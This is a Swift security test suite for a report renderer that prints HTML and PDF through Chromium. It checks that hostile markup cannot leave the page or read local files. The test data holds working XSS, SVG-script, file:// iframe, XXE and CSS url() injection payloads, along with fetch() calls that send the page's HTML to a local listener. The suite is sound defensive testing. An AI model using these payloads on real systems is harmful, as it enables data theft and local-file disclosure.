import AIKitTesting
import Charts
import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// A TCP listener on 127.0.0.1 (an ephemeral port) that accepts every connection, answers it with an empty HTTP 200
/// and records its first line: the server a report's hostile markup would send its exfiltration to.
final class ConnectionRecorder: @unchecked Sendable {
    let port: UInt16
    private let socket: Int32
    private let lock = NSLock()
    private var lines: [String] = []
    private var stopped = false
    private let done = DispatchSemaphore(value: 0)

    init() throws {
        let fd = Glibc.socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        guard fd >= 0 else { throw POSIXError(.EIO) }
        socket = fd
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = 0
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { generic in
                bind(fd, generic, length) == 0 && listen(fd, 64) == 0
                    && getsockname(fd, generic, &length) == 0
            }
        }
        guard bound else { throw POSIXError(.EADDRINUSE) }
        port = UInt16(bigEndian: address.sin_port)
        Thread.detachNewThread { [self] in acceptLoop() }
    }

    /// The first line of every request received so far (or "(connection)" when it sent none).
    var received: [String] {
        lock.lock()
        defer { lock.unlock() }
        return lines
    }

    func stop() {
        lock.lock()
        stopped = true
        lock.unlock()
        done.wait()
        close(socket)
    }

    private func acceptLoop() {
        defer { done.signal() }
        while true {
            lock.lock()
            let finished = stopped
            lock.unlock()
            if finished { return }
            var waiting = pollfd(fd: socket, events: Int16(POLLIN), revents: 0)
            guard poll(&waiting, 1, 50) > 0 else { continue }
            let client = accept(socket, nil, nil)
            guard client >= 0 else { continue }
            var reading = pollfd(fd: client, events: Int16(POLLIN), revents: 0)
            var buffer = [UInt8](repeating: 0, count: 4096)
            let count = poll(&reading, 1, 500) > 0 ? read(client, &buffer, buffer.count) : 0
            let first = String(decoding: buffer.prefix(max(0, count)), as: UTF8.self)
                .split(separator: "\r\n").first.map(String.init)
            lock.lock()
            lines.append(first ?? "(connection)")
            lock.unlock()
            let answer = Array("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".utf8)
            _ = write(client, answer, answer.count)
            close(client)
        }
    }
}

/// Elements and attributes a rendered report may hold: the page's own HTML and the charts' SVG allow-list. Written
/// out here (not taken from the renderer) so the check does not trust what it checks.
enum ReportAllowList {
    static let html: Set<String> = [
        "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "ul", "li", "pre", "figure", "figcaption",
        "a", "div", "table", "thead", "tbody", "tr", "th", "td", "footer",
    ]
    static let svg: Set<String> = [
        "svg", "g", "path", "rect", "circle", "ellipse", "line", "polyline", "polygon", "text", "tspan", "title",
        "desc", "defs", "lineargradient", "radialgradient", "stop", "clippath",
    ]
    /// Attributes whose values are text for people (a `url(` in them fetches nothing).
    static let textAttributes: Set<String> = ["aria-label", "title", "download", "content"]
    static let forbiddenAttributes = ["style", "src", "srcset", "action", "formaction", "background", "poster", "data"]

    /// Every tag in `markup` outside the allow-lists, every event handler, and every link or reference that leaves
    /// the page (anything but `#id`, `data:text/csv` downloads and the Federal Register's https links).
    static func violations(_ markup: String) -> [String] {
        var found: [String] = []
        let tag = try! NSRegularExpression(pattern: "<(/?)([A-Za-z][^\\s/>]*)([^>]*)>")
        let attribute = try! NSRegularExpression(
            pattern: "([^\\s=/\"']+)\\s*(?:=\\s*(\"[^\"]*\"|'[^']*'|[^\\s>]+))?")
        let text = markup as NSString
        for match in tag.matches(in: markup, range: NSRange(location: 0, length: text.length)) {
            let name = text.substring(with: match.range(at: 2)).lowercased()
            if !html.contains(name) && !svg.contains(name) { found.append("element <\(name)>") }
            if text.substring(with: match.range(at: 1)) == "/" { continue }
            let attributes = text.substring(with: match.range(at: 3))
            let list = attributes as NSString
            for pair in attribute.matches(in: attributes, range: NSRange(location: 0, length: list.length)) {
                let key = list.substring(with: pair.range(at: 1)).lowercased()
                var value = pair.range(at: 2).location == NSNotFound ? "" : list.substring(with: pair.range(at: 2))
                if value.hasPrefix("\"") || value.hasPrefix("'") { value = String(value.dropFirst().dropLast()) }
                let lower = value.lowercased()
                if key.hasPrefix("on") || forbiddenAttributes.contains(key) {
                    found.append("attribute \(key) on <\(name)>")
                } else if key == "href" || key.hasSuffix(":href") {
                    let allowed =
                        lower.hasPrefix("#") || lower.hasPrefix("data:text/csv;")
                        || lower.hasPrefix("https://www.federalregister.gov/")
                    if !allowed { found.append("\(key)=\"\(value)\" on <\(name)>") }
                } else if lower.contains("url("), !lower.hasPrefix("url(#"), !textAttributes.contains(key) {
                    found.append("\(key)=\"\(value)\" on <\(name)>")
                } else if name == "meta", key == "http-equiv", lower != "content-security-policy" {
                    found.append("meta http-equiv=\"\(value)\"")
                }
            }
        }
        return found
    }
}

/// The report exploit of security round 3, end to end through the binary: a plugin with no grants hands a script
/// hostile values (a colour that closes its attribute and opens a `<foreignObject>` with a `file://` iframe and a
/// script posting the page to a local server, raw SVG with scripts, markup in every label), the script puts them in
/// every chart and report field and prints the report with `pdf=`. Nothing may leave the page: the listener gets no
/// connection, the PDF holds no byte of a local file, and the page holds nothing outside the allow-lists.
@Suite(
    .enabled(
        if: BrowserLayout.browser != nil && PrintedReport.poppler,
        "needs chromium and poppler-utils (sh Scripts/setup.sh --for-tests installs them)"))
struct HostileReportTests {
    /// Payloads for one listener port and one canary file: each tries another way out of its field.
    static func payloads(port: UInt16, canary: String) -> [String] {
        let server = "http://127.0.0.1:\(port)"
        let steal = "fetch('\(server)/exfil?d='+encodeURIComponent(document.documentElement.outerHTML))"
        return [
            "#0a0\"/><foreignObject width=\"700\" height=\"400\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" "
                + "src=\"file://\(canary)\" width=\"700\" height=\"400\"></iframe></foreignObject><script>\(steal)"
                + "</script><rect fill=\"#0a0",
            "</title></text><script>\(steal)</script><text>",
            "<img src=\"\(server)/img\" onerror=\"\(steal)\">",
            "<iframe src=\"file://\(canary)\"></iframe>",
            "<object data=\"file://\(canary)\"></object><embed src=\"file://\(canary)\">",
            "<link rel=\"stylesheet\" href=\"\(server)/css\"><style>@import url(\(server)/import);</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=\(server)/refresh\"><base href=\"\(server)/\">",
            "<svg><image href=\"\(server)/svgimage\"/><use href=\"\(server)/use#x\"/></svg>",
            "\"><a href=\"javascript:\(steal)\">click</a>",
            "' onload='\(steal)' x='",
            "<![CDATA[<script>\(steal)</script>]]><?xml-stylesheet href=\"\(server)/pi\"?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://\(canary)\">]>&e;",
            "red;background:url(\(server)/css-url)",
            "url(\(server)/fill)",
        ]
    }

    /// Raw `{svg=}` blocks a script might hand a report: each must be refused (or, today, runs in Chromium).
    static func svgBlocks(port: UInt16, canary: String) -> [String] {
        let server = "http://127.0.0.1:\(port)"
        return [
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('\(server)/svg-script')</script></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('\(server)/svg-onload')\"></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"600\" height=\"300\"><iframe "
                + "xmlns=\"http://www.w3.org/1999/xhtml\" src=\"file://\(canary)\" width=\"600\" height=\"300\">"
                + "</iframe></foreignObject></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"\(server)/svg-image\" width=\"9\" height=\"9\"/>"
                + "</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"9\" height=\"9\" "
                + "style=\"fill:url(\(server)/svg-style)\"/></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"\(server)/svg-link\"><text>x</text></a></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><use href=\"\(server)/svg-use#x\"/></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"></svg><script>fetch('\(server)/after-svg')</script>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&lt;ok&gt;</text></svg><img src=\"\(server)/tail\">",
        ]
    }

    /// The plugin (no grants) returns the payloads; the script spreads them over every field, keeps what the charts
    /// and the report accept, prints what they refuse, and prints the report.
    static let script = #"""
        local P = plugins.paint.payloads()
        local S = plugins.paint.svgs()
        local html_path, pdf_path = ...
        local function pick(i) return P[(i - 1) % #P + 1] end
        local charts = {}
        local function try(label, f)
          local ok, svg, csv = pcall(f)
          if ok then charts[#charts + 1] = { svg = svg, csv = csv, name = pick(#charts + 1) }
          else print("refused " .. label .. ": " .. tostring(svg)) end
        end
        for i, p in ipairs(P) do
          local colors = { [p] = p, free = p }
          try("heatmap colour " .. i, function() return chart.heatmap{ title = p, rows = { p, "r" }, columns = { p, "c" },
            cells = { { p, "free" }, { "free", p } }, colors = colors } end)
          try("stacked colour " .. i, function() return chart.stacked{ title = p, labels = { p }, subtitle = p,
            unit = p, prefix = p, segments = { { name = p, values = { 2 } }, { name = "free", values = { 1 } } },
            colors = colors } end)
        end
        -- Fields that take text: escaped, never refused.
        for i, p in ipairs(P) do
          try("heatmap " .. i, function() return chart.heatmap{ title = p, rows = { p, "r" }, columns = { p, "c" },
            cells = { { p, "x" }, { "x", p } } } end)
          try("bar " .. i, function() return chart.bar{ title = p, labels = { p, "b" }, values = { 1, -2 }, unit = p,
            prefix = p, subtitle = p, low = { 0, -3 }, high = { 2, 0 }, highlight = { p } } end)
          try("line " .. i, function() return chart.line{ title = p, x = { p, "2" }, x_label = p, y_label = p,
            series = { { name = p, values = { 1, 2 } } }, markers = { { x = p, label = p } } } end)
          try("stacked " .. i, function() return chart.stacked{ title = p, labels = { p }, subtitle = p, unit = p,
            prefix = p, segments = { { name = p, values = { 2 } } } } end)
        end
        local blocks = { { heading = pick(1) } }
        for i, p in ipairs(P) do
          blocks[#blocks + 1] = { heading = p }
          blocks[#blocks + 1] = { text = p }
          blocks[#blocks + 1] = { list = { p, p } }
          blocks[#blocks + 1] = { pre = p }
          blocks[#blocks + 1] = { table = { columns = { p, "n" }, rows = { { p, 1 }, { p, 2 } } } }
        end
        for _, c in ipairs(charts) do blocks[#blocks + 1] = { svg = c.svg, csv = c.csv .. pick(2), name = c.name } end
        for i, s in ipairs(S) do
          local ok, err = pcall(chart.report, { title = "probe", blocks = { { svg = s } } })
          if ok then blocks[#blocks + 1] = { svg = s } else print("refused svg " .. i .. ": " .. tostring(err)) end
        end
        chart.report{ title = pick(1), blocks = blocks, path = html_path, pdf = pdf_path }
        print("charts", #charts)
        """#

    @Test func aHostileReportPrintsWithNothingLeavingThePage() throws {
        let recorder = try ConnectionRecorder()
        let fixture = try PluginFixture(prefix: "aikit-hostile")
        let canaryText = "CANARY-\(UUID().uuidString)"
        let canary = try fixture.write("secret/canary.txt", canaryText + "\n")
        let lua = { (strings: [String]) in
            "{ " + strings.map { "[==[\($0)]==]" }.joined(separator: ", ") + " }"
        }
        try fixture.write(
            "plugins/paint/init.lua",
            """
            return aikit.plugin{ name = "paint", version = "1.0", commands = {
              payloads = { run = function() return \(lua(Self.payloads(port: recorder.port, canary: canary))) end },
              svgs = { run = function() return \(lua(Self.svgBlocks(port: recorder.port, canary: canary))) end },
            } }
            """)
        let script = try fixture.write("hostile.lua", Self.script)
        let html = fixture.root + "/hostile.html"
        let pdf = fixture.root + "/hostile.pdf"
        let result = try AikitProcess.run(["script", script, html, pdf], environment: fixture.environment())
        // Give the browser's stragglers (an async fetch) a moment to arrive before the listener is read.
        Thread.sleep(forTimeInterval: 0.5)
        recorder.stop()
        #expect(result.status == 0, "\(result.stderr)")
        #expect(recorder.received.isEmpty, "the printed report reached the network: \(recorder.received)")
        let page = try String(contentsOfFile: html, encoding: .utf8)
        let printed = try PrintedReport(pdf, in: URL(fileURLWithPath: fixture.root))
        #expect(!printed.text.contains(canaryText), "the PDF holds the content of a local file")
        #expect(!page.contains(canaryText))
        let violations = ReportAllowList.violations(page)
        #expect(violations.isEmpty, "outside the allow-list: \(Set(violations).sorted().prefix(20))")
        // Every hostile colour and raw SVG block is refused with a message naming what and where.
        let refused = result.stdout.split(separator: "\n").filter { $0.hasPrefix("refused") }
        let colourCount = Self.payloads(port: 1, canary: "").count
        #expect(refused.filter { $0.contains("colour") }.count == 2 * colourCount, "\(result.stdout)")
        #expect(refused.filter { $0.hasPrefix("refused svg") }.count == Self.svgBlocks(port: 1, canary: "").count)
        #expect(
            refused.filter { $0.hasPrefix("refused heatmap colour") }.allSatisfy {
                $0.contains("field 'colors' maps") && $0.contains("is not a colour; use #rrggbb")
            },
            "\(refused)")
        #expect(result.stdout.contains("is not allowed in a report's SVG"), "\(result.stdout)")
        // The text fields were all drawn: 4 charts per payload, escaped.
        #expect(result.stdout.contains("charts\t\(4 * colourCount)"), "\(result.stdout)")
        #expect(printed.pages >= 1)
    }

    /// The printer's own walls, without the page's: raw HTML with no Content-Security-Policy, holding a script and
    /// elements that fetch from the listener, printed by `PDFPrinter`. The script does not run (the profile blocks
    /// JavaScript) and nothing connects (host names resolve to nothing, connections go to a dead proxy).
    @Test func thePrinterRunsNoScriptAndReachesNoServer() throws {
        let recorder = try ConnectionRecorder()
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("aikit-lockdown-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let server = "http://127.0.0.1:\(recorder.port)"
        let html = """
            <!DOCTYPE html><html><head><link rel="stylesheet" href="\(server)/css"></head><body><p>static text</p>
            <img src="\(server)/img"><img src="http://localhost:\(recorder.port)/by-name">
            <script>document.body.appendChild(document.createTextNode('SCRIPT RAN'));fetch('\(server)/fetch');</script>
            <iframe src="\(server)/frame"></iframe></body></html>
            """
        let pdf = folder.appendingPathComponent("lockdown.pdf").path
        try PDFPrinter.print(html: html, to: pdf, browser: try #require(BrowserLayout.browser), timeout: 60)
        Thread.sleep(forTimeInterval: 0.3)
        recorder.stop()
        let printed = try PrintedReport(pdf, in: folder)
        #expect(printed.text.contains("static text"))
        #expect(!printed.text.contains("SCRIPT RAN"), "JavaScript ran while printing")
        #expect(recorder.received.isEmpty, "the printer reached the network: \(recorder.received)")
    }

    /// The page's own wall, without the markup checks: raw HTML that embeds local files (a frame, an object, an image,
    /// a style sheet that would write text) under the report's Content-Security-Policy prints none of them. The same
    /// page without the policy shows the file, so the check can fail (Chromium has no switch that keeps a `file://`
    /// page from embedding other `file://` URLs).
    @Test func thePagePolicyKeepsLocalFilesOut() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("aikit-policy-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let canaryText = "CANARY-\(UUID().uuidString)"
        let canary = folder.appendingPathComponent("canary.txt").path
        try (canaryText + "\n").write(toFile: canary, atomically: true, encoding: .utf8)
        let sheet = folder.appendingPathComponent("sheet.css").path
        try "body::after{content:'STYLE SHEET LOADED'}".write(toFile: sheet, atomically: true, encoding: .utf8)
        let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"\(HTMLReport.contentSecurityPolicy)\">"
        func page(_ head: String) -> String {
            """
            <!DOCTYPE html><html><head>\(head)<link rel="stylesheet" href="file://\(sheet)"></head><body>
            <p>static text</p><iframe src="file://\(canary)" width="600" height="100"></iframe>
            <object data="file://\(canary)" type="text/plain" width="600" height="100"></object></body></html>
            """
        }
        let browser = try #require(BrowserLayout.browser)
        var texts: [String] = []
        for (name, head) in [("open", ""), ("policy", policy)] {
            let pdf = folder.appendingPathComponent("\(name).pdf").path
            try PDFPrinter.print(html: page(head), to: pdf, browser: browser, timeout: 60)
            texts.append(try PrintedReport(pdf, in: folder).text)
        }
        #expect(texts[0].contains(canaryText), "the control page should show the file: \(texts[0])")
        #expect(texts[1].contains("static text"))
        #expect(!texts[1].contains(canaryText), "the policy let a local file into the page")
        #expect(!texts[1].contains("STYLE SHEET LOADED"), "the policy let a local style sheet into the page")
    }
}
